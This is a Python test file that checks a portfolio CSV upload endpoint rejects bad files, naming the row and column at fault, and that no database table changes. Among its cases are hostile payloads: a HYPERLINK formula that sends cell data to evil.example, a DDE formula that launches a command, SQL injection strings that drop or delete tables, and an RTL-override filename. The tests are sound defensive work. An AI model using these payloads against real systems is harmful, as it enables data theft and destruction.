"""Bad CSV files through ``POST /api/v1/portfolio/upload`` on both warehouses (design §7).

Every file of ``tests/ingest/bad_csv/`` (expectations from its README) plus generated
ones (100,000 rows, 20 MB, binary garbage, BOM, CRLF, Latin-1, formula injection,
SQL-like text, hostile tags, NaN/inf, pre-1970 dates, malformed OCC, ...) must answer
422 (413 when oversized) with an error envelope naming the row, the column and the
problem, and leave every ``app``/``raw``/``marts`` table exactly as it was: the
contents of every table are hashed before the corpus and after each upload.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import itertools
import random
import string
from pathlib import Path

from tests.api.conftest import AS_OF, error_of
from tests.reliability.conftest import changed_tables, count, table_digests

BAD_CSV = Path(__file__).resolve().parent.parent / "ingest" / "bad_csv"
H = "ticker,quantity,entry_price,entry_date,tags\n"
ANY = object()  # any row / column (checked to be present)


@dataclasses.dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    status: int = 422
    row: object = ANY          # expected row of one reported problem (None = whole file)
    column: object = ANY       # expected column of that problem
    fragment: str | None = None
    problems: int | None = None  # total number of problems, when known
    form: dict | None = None   # extra form fields (equity)
    code: str | None = None


def _readme_cases() -> list[Case]:
    cases = []
    for line in (BAD_CSV / "README.md").read_text().splitlines():
        parts = [part.strip() for part in line.split(" | ")]
        if len(parts) != 6 or not parts[0].endswith(".csv"):
            continue
        name, row, column, problems, fragment, _ = parts
        data = (BAD_CSV / name).read_bytes()
        if name == "date_tomorrow.csv":  # the corpus is relative to today = 2024-06-28
            data = data.replace(b"2024-06-29", (AS_OF + dt.timedelta(days=1)).isoformat().encode())
            fragment = "in the future"
        cases.append(Case(name, data, row=None if row == "-" else int(row),
                          column=None if column == "-" else column,
                          fragment=fragment, problems=int(problems)))
    return cases


def _letters(n: int) -> list[str]:
    """``n`` distinct valid tickers (1-4 upper-case letters)."""
    out = []
    for size in range(1, 5):
        for combo in itertools.product(string.ascii_uppercase, repeat=size):
            out.append("".join(combo))
            if len(out) == n:
                return out
    raise ValueError(n)


def _rows(n: int) -> str:
    return "".join(f"{t},{i % 97 + 1},{i % 89 + 10}.25,2026-03-02,\n"
                   for i, t in enumerate(_letters(n)))


def _one(ticker="AAPL", quantity="100", price="150", date="2026-03-02", tags="tech") -> bytes:
    def q(value: str) -> str:
        return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value
    return (H + ",".join(q(v) for v in (ticker, quantity, price, date, tags)) + "\n").encode()


def _binary(seed: int, with_nul: bool) -> bytes:
    rng = random.Random(seed)
    low = 0 if with_nul else 1
    data = bytes(rng.randint(low, 255) for _ in range(4096))
    return data if with_nul or b"\x00" not in data else data.replace(b"\x00", b"\x01")


def _generated_cases() -> list[Case]:
    big = H + _rows(100_000)
    exact = H.encode() + b"AAPL,1,1,2026-03-02,\n"
    just_over = exact + b"\n" * (5_000_001 - len(exact))
    garbage = _binary(7, with_nul=True)
    nul_line = garbage.count(b"\n", 0, garbage.find(b"\x00"))
    crlf = (H + "AAPL,100,150,2026-03-02,tech\nMSFT,10,300,03/02/2026,tech\n").replace(
        "\n", "\r\n").encode()
    future = (AS_OF + dt.timedelta(days=1)).isoformat()
    all_bad = H + "".join(f"{t},x,1,2026-03-02,\n" for t in _letters(50))
    return [
        Case("gen_100k_rows.csv", big.encode(), row=10_001, column=None,
             fragment="too many rows"),
        Case("gen_bad_row_10000_of_10000.csv",
             (H + _rows(9_999) + "ZZZZ,abc,1,2026-03-02,\n").encode(), row=10_000,
             column="quantity", fragment="not a number", problems=1),
        Case("gen_20mb.csv", (H + _rows(1000) * 800).encode()[:20_000_000], status=413,
             fragment="exceeds the limit"),
        Case("gen_5mb_plus_one_byte.csv", just_over, status=413, fragment="5000000 bytes"),
        Case("gen_binary_garbage.csv", garbage, row=nul_line, column=None, fragment="NUL bytes"),
        Case("gen_binary_no_nul.csv", _binary(11, with_nul=False), fragment="not valid UTF-8"),
        Case("gen_bom_bad_quantity.csv", b"\xef\xbb\xbf" + _one(quantity="zero"), row=1,
             column="quantity", fragment="not a number", problems=1),
        Case("gen_crlf_us_date_row_2.csv", crlf, row=2, column="entry_date",
             fragment="YYYY-MM-DD", problems=1),
        Case("gen_bom_crlf_future_date.csv",
             b"\xef\xbb\xbf" + _one(date=future).replace(b"\n", b"\r\n"), row=1,
             column="entry_date", fragment="in the future", problems=1),
        Case("gen_latin1_ticker.csv", H.encode() + "CAFÉ,1,10,2026-03-02,\n".encode("latin-1"),
             row=1, column="ticker", fragment="not valid UTF-8"),
        Case("gen_formula_hyperlink_ticker.csv",
             _one(ticker='=HYPERLINK("http://evil.example/?x="&A1,"click")'), row=1,
             column="ticker", fragment="not a valid ticker"),
        Case("gen_formula_dde_tag.csv", _one(tags="=cmd|' /C calc'!A0"), row=1, column="tags",
             fragment="formula"),
        Case("gen_formula_at_sum_tag.csv", _one(tags="ok,@SUM(1+1)*cmd"), row=1, column="tags",
             fragment="formula"),
        Case("gen_sql_ticker.csv", _one(ticker="AAPL'; DROP TABLE app.positions; --"), row=1,
             column="ticker", fragment="not a valid ticker"),
        Case("gen_sql_tag.csv", _one(tags="x'); delete from app.positions; --"), row=1,
             column="tags", fragment="may contain only"),
        Case("gen_sql_quantity.csv", _one(quantity="1; select 1"), row=1, column="quantity",
             fragment="not a number"),
        Case("gen_sql_date.csv", _one(date="2026-03-02' or '1'='1"), row=1,
             column="entry_date", fragment="YYYY-MM-DD"),
        Case("gen_tag_quotes_and_commas.csv", _one(tags='he said "hi", ok'), row=1,
             column="tags", fragment="may contain only"),
        Case("gen_tag_10k_chars.csv", _one(tags="a" * 10_000), row=1, column=None,
             fragment="the limit is 4,096 per line"),
        Case("gen_tag_1k_chars.csv", _one(tags="a" * 1_000), row=1, column="tags",
             fragment="longer than 50"),
        Case("gen_tag_rtl_override.csv", _one(tags="\u202egnp.exe"), row=1, column="tags",
             fragment="may contain only"),
        Case("gen_tag_trailing_comma.csv", _one(tags="tech,"), row=1, column="tags",
             fragment="empty tag"),
        Case("gen_quantity_minus_inf.csv", _one(quantity="-inf"), row=1, column="quantity",
             fragment="is infinite"),
        Case("gen_quantity_Infinity.csv", _one(quantity="Infinity"), row=1, column="quantity",
             fragment="is infinite"),
        Case("gen_quantity_NaN.csv", _one(quantity="NaN"), row=1, column="quantity",
             fragment="is NaN"),
        Case("gen_quantity_hex.csv", _one(quantity="0x10"), row=1, column="quantity",
             fragment="not a number"),
        Case("gen_quantity_inner_space.csv", _one(quantity="1 000"), row=1, column="quantity",
             fragment="not a number"),
        Case("gen_price_1e309.csv", _one(price="1e309"), row=1, column="entry_price",
             fragment="out of range"),
        Case("gen_price_minus_zero.csv", _one(price="-0"), row=1, column="entry_price",
             fragment="greater than zero"),
        Case("gen_date_1969_12_31.csv", _one(date="1969-12-31"), row=1, column="entry_date",
             fragment="before 1970-01-01"),
        Case("gen_date_year_0001.csv", _one(date="0001-01-01"), row=1, column="entry_date",
             fragment="before 1970-01-01"),
        Case("gen_date_year_9999.csv", _one(date="9999-12-31"), row=1, column="entry_date",
             fragment="in the future"),
        Case("gen_occ_day_32.csv", _one(ticker="AAPL261232C00250000", tags=""), row=1,
             column="ticker"),
        Case("gen_occ_letters_in_strike.csv", _one(ticker="AAPL261218C00ABC000", tags=""), row=1,
             column="ticker"),
        Case("gen_occ_space_inside.csv", _one(ticker="AAPL 2612 18C00250000", tags=""), row=1,
             column="ticker"),
        Case("gen_occ_expired_entry.csv", _one(ticker="AAPL260116C00250000", quantity="1",
                                               date="2026-03-02", tags=""), row=1,
             column="entry_date", fragment="after the option's expiry"),
        Case("gen_cyrillic_ticker.csv", _one(ticker="\u0410APL"), row=1, column="ticker",
             fragment="not a valid ticker"),
        Case("gen_header_repeated_in_body.csv",
             (H + "AAPL,1,10,2026-03-02,\n" + H).encode(), row=2, column="quantity",
             fragment="not a number"),
        Case("gen_row_with_1000_fields.csv", (H + ",".join(["AAPL"] * 1000) + "\n").encode(),
             row=1, column=None, fragment="the limit is 4,096 per line"),
        Case("gen_row_with_500_fields.csv", (H + ",".join(["A"] * 500) + "\n").encode(),
             row=1, column=None, fragment="500 fields"),
        Case("gen_duplicate_after_trim.csv",
             (H + "AAPL,1,10,2026-03-02,\n  AAPL  ,2,11,2026-03-02,\n").encode(), row=2,
             column="ticker", fragment="duplicate row"),
        Case("gen_50_bad_rows_all_listed.csv", all_bad.encode(), row=50, column="quantity",
             fragment="not a number", problems=50),
        Case("gen_bom_crlf_header_only.csv", b"\xef\xbb\xbf" + H.replace("\n", "\r\n").encode(),
             row=None, column=None, fragment="no data rows"),
        Case("gen_excel_sep_line.csv", ("sep=,\n" + H + "AAPL,1,10,2026-03-02,\n").encode(),
             row=0, column="quantity", fragment="missing column"),
        Case("gen_utf16_le_no_bom.csv", _one().decode().encode("utf-16-le"),
             fragment="NUL bytes"),
        # bad form fields next to a valid file: request validation, nothing written
        Case("gen_valid_file_negative_equity.csv", _one(), form={"equity": "-5"},
             code="validation_error", fragment="equity"),
        Case("gen_valid_file_nan_equity.csv", _one(), form={"equity": "nan"},
             code="validation_error", fragment="equity"),
    ]


CASES = _readme_cases() + _generated_cases()


def _check(case: Case, response) -> None:
    code = case.code or ("invalid_csv" if case.status == 422 else "payload_too_large")
    error = error_of(response, case.status, code)
    if case.status == 413:
        assert error["details"]["max_bytes"] > 0, error
        if case.fragment:
            assert case.fragment in error["message"], error
        return
    details = error["details"]
    assert isinstance(details, list), error
    assert details, error
    if case.code == "validation_error":
        assert any(case.fragment in ".".join(map(str, d["loc"])) for d in details), error
        return
    for problem in details:
        assert set(problem) == {"row", "column", "message"}, problem
        assert problem["message"], problem
    assert details[0]["message"] in error["message"], error
    if case.problems is not None:
        assert len(details) == case.problems, error
    matching = [d for d in details
                if (case.row is ANY or d["row"] == case.row)
                and (case.column is ANY or d["column"] == case.column)
                and (case.fragment is None or case.fragment in d["message"])]
    assert matching, f"{case.name}: no problem at row {case.row}, column {case.column} " \
                     f"with {case.fragment!r}: {details}"
    if case.row is not ANY and case.row not in (None, 0):
        assert f"row {case.row}" in matching[0]["message"] or matching[0]["row"] == case.row


def test_corpus_is_large_enough():
    assert len(CASES) >= 100
    assert len({case.name for case in CASES}) == len(CASES)


def test_bad_csv_rejected_and_nothing_written(rel_env):
    env = rel_env
    before = table_digests(env.warehouse)
    assert before["app.positions"][0] > 0
    assert before["marts.fct_portfolio_snapshots"][0] > 0
    failures = []
    for case in CASES:
        response = env.client.post(
            "/api/v1/portfolio/upload", headers=env.headers("demo_user_1"),
            files={"file": (case.name, case.data, "text/csv")}, data=case.form or {})
        count(f"bad inputs tried ({env.settings.warehouse_kind})")
        try:
            _check(case, response)
        except AssertionError as error:
            failures.append(f"{case.name}: {error}")
        after = table_digests(env.warehouse)
        changed = changed_tables(before, after)
        if changed:
            failures.append(f"{case.name}: tables changed {changed}")
            before = after
    assert not failures, "\n".join(failures)
